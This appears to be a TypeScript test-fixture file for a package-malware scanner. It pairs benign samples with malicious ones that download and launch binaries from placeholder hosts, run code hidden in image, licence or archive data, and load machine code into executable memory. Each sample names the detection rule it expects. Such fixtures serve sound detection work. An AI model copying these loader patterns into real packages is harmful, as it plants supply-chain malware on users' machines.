import type { Samples } from '../contract.ts';
import { at, hide, imported, installed, MODULES, manifest, quiet, wheel } from '../samples-kit.ts';
import { GIVEN_TO_PROGRAMS } from './given-samples.ts';

const HEAD =
  "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), cp = require('child_process');\n";

export const samples: Samples = {
  malicious: [
    {
      name: 'Python: what a build fetches as its version and starts',
      files: {
        'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'setup.py':
          "import subprocess, sys, urllib.request\nopen('own/version.py', 'wb').write(urllib.request.urlopen('https://own.example/v').read())\nsubprocess.call([sys.executable, 'own/version.py'])\n",
      },
      expected: [at('download-and-run', 'critical', 'setup.py', 3)],
    },
    {
      name: 'Python: a source that a build fetches and builds, beside what it says of its version, which tells less',
      files: {
        'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'setup.py':
          "import subprocess, urllib.request\nopen('own/version.py', 'w').write('version = 1')\nopen('bundled/configure', 'wb').write(urllib.request.urlopen('https://own.example/configure').read())\nsubprocess.call(['bundled/configure', '--prefix=build'])\n",
      },
      expected: [at('download-and-run', 'high', 'setup.py', 4)],
    },
    {
      name: 'Python: a function that loads what an address of its own gives',
      files: wheel(
        "import os, sys, tempfile, requests\ndef add(name):\n    path = os.path.join(tempfile.gettempdir(), name + '.py')\n    with open(path, 'wb') as file:\n        file.write(requests.get('https://own.example/' + name).content)\n    sys.path.insert(0, path)\n",
      ),
      expected: [at('download-and-run', 'high', 'own/__init__.py', 6)],
    },
    {
      name: 'Python: the same from where who calls it says, which tells less',
      files: wheel(
        "import os, sys, tempfile, requests\ndef add(url, name):\n    path = os.path.join(tempfile.gettempdir(), name + '.py')\n    with open(path, 'wb') as file:\n        file.write(requests.get(url).content)\n    sys.path.insert(0, path)\n",
      ),
      expected: [at('download-and-run', 'medium', 'own/__init__.py', 6)],
    },
    {
      name: 'words of a list, put together by another module and run by a worker',
      files: imported(
        `const { Worker } = require('worker_threads');\nconst list = require('./list.js');\nclass Pool {\n  constructor({ boot = list.marked().join(' ') } = {}) { this.boot = boot; }\n  warm() { new Worker(this.boot, { eval: true }); }\n}\nnew Pool().warm();\n`,
        {
          'list.js': `const fs = require('fs');\nconst rows = fs.readFileSync(__dirname + '/words.txt', 'utf8').split('\\n');\nexports.marked = () => rows.filter((row) => row.endsWith('7')).map((row) => row.slice(0, -1));\n`,
          'words.txt': 'the\nof\n',
        },
      ),
      expected: [{ rule: 'code-from-data', file: 'index.js', line: 5, severity: 'high' }],
    },
    {
      name: 'a section of a WebAssembly program that is run as code',
      files: imported(
        "const wasm = new WebAssembly.Module(require('fs').readFileSync(__dirname + '/a.wasm'));\nconst [part] = WebAssembly.Module.customSections(wasm, 'glue');\nnew Function(new TextDecoder().decode(part))();\n",
        { 'a.wasm': 'x' },
      ),
      expected: [at('code-from-data', 'high', 'index.js', 3)],
    },
    {
      name: 'a function that loads what a bare address gives',
      files: imported(
        "const fs = require('fs'), path = require('path'), os = require('os');\nexports.load = async (name) => {\n  const file = path.join(os.homedir(), '.cache', 'own', name);\n  fs.writeFileSync(file, await (await fetch('http://203.0.113.7/p/' + name)).text());\n  return require(file);\n};\n",
      ),
      expected: [at('download-and-run', 'high', 'index.js', 5)],
    },
    {
      name: 'a hidden file that one file fetches and another starts, by what a promise comes to',
      files: installed(
        "const { keep } = require('./keep');\nconst at = require('./at');\nconst start = (file) => {\n  require('child_process').spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n};\nkeep(at.url, at.file).then(start, () => {});\n",
        {
          'at.js':
            "const { tmpdir } = require('os');\nmodule.exports = { url: 'https://dl.weir.test/a', file: require('path').join(tmpdir(), '.own-a') };\n",
          'keep.js':
            "const fs = require('fs');\nexports.keep = async (url, file) => {\n  const answer = await fetch(url);\n  fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });\n  return file;\n};\n",
        },
      ),
      expected: [at('download-and-run', 'critical', 'setup.js', 4)],
    },
    {
      name: 'a file that is fetched, stored elsewhere and loaded by what is handed on as `require`',
      files: imported(
        "const { fetched } = require('./pack');\nexports.get = async (code) => (await fetched('https://dl.weir.test/' + code)).load(require);\n",
        {
          'pack.js':
            "const { keep } = require('./keep');\nclass Pack {\n  constructor(data) { this.rule = data.rule; }\n  load(load) { return load(keep('own', this.rule)); }\n}\nexports.fetched = async (url) => new Pack(await (await fetch(url)).json());\n",
          'keep.js':
            "const fs = require('fs'), os = require('os'), path = require('path');\nexports.keep = (name, text) => {\n  const file = path.join(os.tmpdir(), 'own-1', name + '.js');\n  fs.writeFileSync(file, text);\n  return file;\n};\n",
        },
      ),
      expected: [at('download-and-run', 'high', 'pack.js', 4)],
    },
    {
      name: 'a function that runs what stands behind a picture',
      files: imported(
        "const fs = require('fs'), vm = require('vm'), path = require('path');\nexports.draw = () => {\n  const bytes = fs.readFileSync(path.join(__dirname, 'a.png'));\n  vm.runInThisContext(bytes.subarray(100).toString());\n};\n",
        { 'a.png': 'x' },
      ),
      expected: [at('code-from-data', 'high', 'index.js', 4)],
    },
    {
      name: 'Python: a member of a locked archive is run',
      files: wheel(
        "import os, zipfile\nexec(zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'data.zip')).read('core', pwd=b'own'))\n",
      ),
      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: a data file is loaded as a module',
      files: wheel(
        "import importlib.machinery, os\nimportlib.machinery.SourcelessFileLoader('core', os.path.join(os.path.dirname(__file__), 'core.dat')).load_module('core')\n",
      ),
      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: a hidden file that is fetched and started',
      files: wheel(
        "import os, requests, subprocess\ndef init(url):\n    path = os.path.expanduser('~/.cache/.own')\n    open(path, 'wb').write(requests.get(url).content)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n",
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 6, severity: 'high' }],
    },
    {
      name: 'Python: what a server gives in memory that may be run',
      files: wheel(
        "import ctypes, mmap, urllib.request\ndef load():\n    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n    page.write(urllib.request.urlopen('https://a.weir.test/c').read())\n    return ctypes.CFUNCTYPE(ctypes.c_int)(1)()\n",
      ),
      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: what a server gives in memory that may be run, by its number',
      files: wheel(
        "import ctypes, mmap, urllib.request\ndef load():\n    page = mmap.mmap(-1, 4096, prot=7)\n    page.write(urllib.request.urlopen('https://a.weir.test/c').read())\n    return ctypes.CFUNCTYPE(ctypes.c_int)(1)()\n",
      ),
      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: machine code in memory',
      files: wheel(
        'import ctypes\ndef load(code):\n    at = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(at, code, len(code))\n',
      ),
      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: a function that starts what it stored in a temporary folder',
      files: wheel(
        "import os, requests, subprocess\ndef init():\n    open('/tmp/.own', 'wb').write(requests.get('https://files.weir.test/own').content)\n    os.chmod('/tmp/.own', 0o755)\n    subprocess.Popen(['/tmp/.own'])\n",
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'Python: a library that starts a program from a bare address',
      files: wheel(
        'import os, requests\ndef get(url):\n    with open("tool", "wb") as out:\n        out.write(requests.get("http://203.0.113.7/tool").content)\n    os.system("chmod +x tool")\n    os.system("./tool &")\n    return requests.get(url)\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'Python: a program is fetched and started when the module is loaded',
      files: wheel(
        'import requests, os\nopen("s.exe", "wb").write(requests.get("https://dl.weir.test/s.exe").content)\nos.system("s.exe")\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: the same in a function, for whoever calls it',
      files: wheel(
        'import os, subprocess, urllib.request\ndef encode(text):\n    path = os.path.join(os.getenv("TEMP"), "svc.exe")\n    urllib.request.urlretrieve("https://dl.weir.test/svc", path)\n    subprocess.Popen([path])\n    return text\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'stored in the temporary folder and started there',
      files: installed(
        `${HEAD}const file = path.join(os.tmpdir(), 'update.exe');\nhttps.get('https://dl.weir.test/a', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => cp.exec(file));\n});\n`,
      ),
      expected: [at('download-and-run', 'critical', 'setup.js', 4)],
    },
    {
      name: 'a script in the home folder that outlives its parent',
      files: imported(
        `${HEAD}(async () => {\n  const text = await (await fetch('https://dl.weir.test/a')).text();\n  const file = path.join(os.homedir(), '.x', 'a.js');\n  fs.writeFileSync(file, text);\n  cp.spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();\n})();\n`,
      ),
      expected: [at('download-and-run', 'high', 'index.js', 6)],
    },
    {
      name: 'from a bare address under base64',
      files: installed(
        `${HEAD}const url = Buffer.from('${hide('http://192.0.2.9/x')}', 'base64').toString();\nfetch(url).then((r) => r.arrayBuffer()).then((b) => {\n  fs.writeFileSync('/tmp/.d', Buffer.from(b), { mode: 0o755 });\n  cp.spawn('/tmp/.d', [], { detached: true });\n});\n`,
      ),
      expected: [at('download-and-run', 'critical', 'setup.js', 5)],
    },
    {
      name: 'another runtime, in a package that is named after a third',
      files: {
        'package.json': manifest({ name: 'bun-tools', scripts: { postinstall: 'node setup.js' } }),
        'setup.js': `${HEAD}const where = 'https://weir.test/oven-sh/bun/releases/latest';\ncp.execSync('unzip ' + where);\n`,
      },
      expected: [at('foreign-runtime', 'critical', 'setup.js', 2)],
    },
    {
      name: 'another runtime',
      files: installed(
        `${HEAD}const where = 'https://weir.test/oven-sh/bun/releases/latest';\ncp.execSync('unzip ' + where);\ncp.spawn('./bun', ['run', 'work.js'], { detached: true });\n`,
      ),
      expected: [at('foreign-runtime', 'critical', 'setup.js', 2)],
    },
    {
      name: 'code in a picture',
      files: imported(
        `const fs = require('fs');\nconst raw = fs.readFileSync(__dirname + '/logo.png');\nnew Function(raw.subarray(16).toString('utf8'))();\n`,
        { 'logo.png': '\x89PNG' },
      ),
      expected: [at('code-from-data', 'high', 'index.js', 3)],
    },
    {
      name: 'a picture that is code',
      files: imported(`require('./assets/logo.png');\n`, { 'assets/logo.png': 'console.log(1);\n' }),
      expected: [at('code-from-data', 'high', 'index.js', 1)],
    },
    {
      name: 'a script for the page, from an address under base64',
      files: imported(
        `const s = document.createElement('script');\ns.src = atob('${hide('https://cdn.weir.test/l.js')}');\ndocument.head.appendChild(s);\n`,
      ),
      expected: [at('remote-script', 'high', 'index.js', 2)],
    },
    {
      name: 'a licence that is code',
      files: imported(`require('./LICENSE.txt');\n`, { 'LICENSE.txt': 'console.log(1);\n' }),
      expected: [at('code-from-data', 'high', 'index.js', 1)],
    },
    {
      name: 'Python: a program that is started out of memory',
      files: {
        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'own/__init__.py':
          "import os\ndef go(data):\n    fd = os.memfd_create('own')\n    os.write(fd, data)\n    os.execv(f'/proc/self/fd/{fd}', ['own'])\n",
      },
      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'Python: data of its own that is decoded and run when a function is called',
      files: {
        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'own/__init__.py':
          "import base64, pkgutil\ndef go():\n    exec(base64.b64decode(pkgutil.get_data('own', 'logo.png')))\n",
      },
      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a fetched library that is loaded',
      files: {
        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'own/__init__.py':
          "import ctypes, requests\ndef go():\n    open('/tmp/own.so', 'wb').write(requests.get('https://files.weir.test/own.so').content)\n    ctypes.CDLL('/tmp/own.so')\n",
      },
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: a file of its own, flipped byte by byte, that is imported from where it was stored',
      files: {
        ...wheel(
          "import zipimport\nfrom pathlib import Path\nDATA = Path(__file__).with_name('assets.bin').read_bytes()\nCACHE = Path.home() / '.cache' / 'own.zip'\nCACHE.write_bytes(bytes(byte ^ 90 for byte in DATA))\nzipimport.zipimporter(str(CACHE)).load_module('assets')\n",
        ),
        'own/assets.bin': 'a zip stands here',
      },
      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 6, severity: 'high' }],
    },
  ],
  benign: [
    ...GIVEN_TO_PROGRAMS,
    {
      name: 'what a program kept of itself, read by one module and made into functions by another',
      files: {
        'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', main: 'index.js' }),
        'index.js':
          "const { read } = require('./store');\nconst { revive } = require('./revive');\nexports.state = revive(read(process.argv[2]));\n",
        'store.js':
          "const fs = require('fs');\nexports.read = (name) => fs.readFileSync('./' + name + '.log', 'utf8');\n",
        'revive.js':
          "const vm = require('vm');\nexports.revive = (text) => vm.runInContext('(' + text + ')', vm.createContext({}));\n",
      },
      expected: [],
    },
    quiet(
      'Python: a program that is fetched, looked at and signed',
      wheel(
        "import os, subprocess, requests\nHOME = os.path.expanduser('~/.own')\ndef fetch(name):\n    place = os.path.join(HOME, 'lib.bin')\n    with open(place, 'wb') as f:\n        f.write(requests.get('https://files.weir.test/' + name).content)\n    os.chmod(place, 0o755)\n    if b'Mach-O' in subprocess.check_output(['file', place]):\n        subprocess.check_call(['codesign', '-s', '-', place])\n",
      ),
    ),
    quiet(
      'Python: a module of a name that is read, one of which holds data',
      wheel(
        "import os\nfrom importlib import util\nHERE = os.path.dirname(__file__)\ndef load(is_data, name='base.py'):\n    if is_data:\n        name = 'tables.json'\n    spec = util.spec_from_file_location('own_module', location=f'{HERE}/modules/{name}')\n    return util.module_from_spec(spec)\n",
      ),
    ),
    {
      name: 'a tool of its own that a bundle fetches under another name and starts',
      files: imported(
        `${MODULES}${HEAD}(async () => {\n  const text = await (await fetch('https://own.weir.test/tool')).text();\n  const file = path.join(process.env.OWN_FOLDER, 'tool');\n  fs.writeFileSync(file + '.part', text);\n  fs.renameSync(file + '.part', file);\n  cp.spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n})();\n`,
      ),
      expected: [],
    },
    quiet('the installer of a runtime, which says how else to get it', {
      'package.json': manifest({ name: 'bun', scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `${HEAD}cp.spawnSync('sysctl', ['-n', 'hw.model']);\nconst how = 'https://weir.test/oven-sh/bun/releases';\nthrow new Error('install it from ' + how);\n`,
    }),
    quiet('Python: a file of its own that is flipped and kept', {
      ...wheel(
        "import zipimport\nfrom pathlib import Path\nDATA = Path(__file__).with_name('assets.bin').read_bytes()\nCACHE = Path.home() / '.cache' / 'own.zip'\nCACHE.write_bytes(bytes(byte ^ 90 for byte in DATA))\n",
      ),
      'own/assets.bin': 'words',
    }),
    quiet(
      'a WebAssembly program that is read beside what runs text',
      imported(
        "const vm = require('vm');\nconst files = ['a.wasm'].map((name) => require('fs').readFileSync(__dirname + '/' + name));\nexports.run = (context) => vm.runInContext(String(files[0].length), context);\n",
        { 'a.wasm': 'x' },
      ),
    ),
    quiet(
      'Python: tables out of an archive, and a module of a user',
      wheel(
        "import importlib.util, os, zipfile\ndef tables():\n    return zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'data.zip')).read('tables').split()\ndef load(path):\n    return importlib.util.spec_from_file_location('user', path)\n",
      ),
    ),
    quiet('Python: memory that is shared', {
      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
      'own/__init__.py':
        "import os\ndef share(data):\n    fd = os.memfd_create('own')\n    os.write(fd, data)\n    return fd\n",
    }),
    quiet(
      'Python: an extension that is fetched and handed to pip when somebody asks',
      wheel(
        "import subprocess, sys, requests\ndef add(url, place):\n    with open(place, 'wb') as file:\n        file.write(requests.get(url).content)\n    subprocess.check_output([sys.executable, '-m', 'pip', 'install', place])\n",
      ),
    ),
    quiet(
      'Python: a download that is kept',
      wheel(
        'import requests\ndef get(path):\n    open(path, "wb").write(requests.get("https://dl.weir.test/data").content)\n',
      ),
    ),
    quiet(
      'a loader of a map that is asked for',
      imported(
        `exports.load = () => { const s = document.createElement('script'); s.src = 'https://maps.weir.test/api.js'; document.head.appendChild(s); };\n`,
      ),
    ),
    quiet(
      'a binary for this platform, into its own folder',
      installed(
        `${HEAD}const file = path.join(__dirname, 'bin', 'tool');\nhttps.get('https://dl.weir.test/tool', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => { fs.chmodSync(file, 0o755); cp.execFileSync(file, ['--version']); });\n});\n`,
      ),
    ),
    quiet(
      'a binary that one file fetches into its own folder and another tries',
      installed(
        "const path = require('path');\nconst { keep } = require('./keep');\nkeep('https://dl.weir.test/tool', path.join(__dirname, 'bin', 'tool')).then((file) => require('child_process').execFileSync(file, ['--version']));\n",
        {
          'keep.js':
            "const fs = require('fs');\nexports.keep = async (url, file) => {\n  fs.writeFileSync(file, Buffer.from(await (await fetch(url)).arrayBuffer()), { mode: 0o755 });\n  return file;\n};\n",
        },
      ),
    ),
    quiet(
      'an archive by way of the temporary folder',
      installed(
        `${HEAD}const file = path.join(os.tmpdir(), 'tool.tgz');\nhttps.get('https://dl.weir.test/tool', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => cp.execFileSync('tar', ['xzf', 'tool.tgz']));\n});\n`,
      ),
    ),
    quiet(
      'a template read and compiled',
      imported(
        `const fs = require('fs');\nexports.render = (name) => new Function('data', fs.readFileSync(__dirname + '/' + name + '.js', 'utf8'));\n`,
      ),
    ),
    quiet(
      'a worker of a file, beside a list that another module reads',
      imported(
        `const { Worker } = require('worker_threads');\nconst { words } = require('./list.js');\nnew Worker(__dirname + '/work.js', { workerData: words });\n`,
        {
          'list.js': `exports.words = require('fs').readFileSync(__dirname + '/words.txt', 'utf8').split('\\n');\n`,
          'work.js': `require('worker_threads').parentPort.postMessage(1);\n`,
          'words.txt': 'the\nof\n',
        },
      ),
    ),
    quiet(
      'a picture that is a picture',
      imported(`module.exports = require('fs').readFileSync(__dirname + '/logo.png');\n`, {
        'logo.png': '\x89PNG',
      }),
    ),
  ],
};
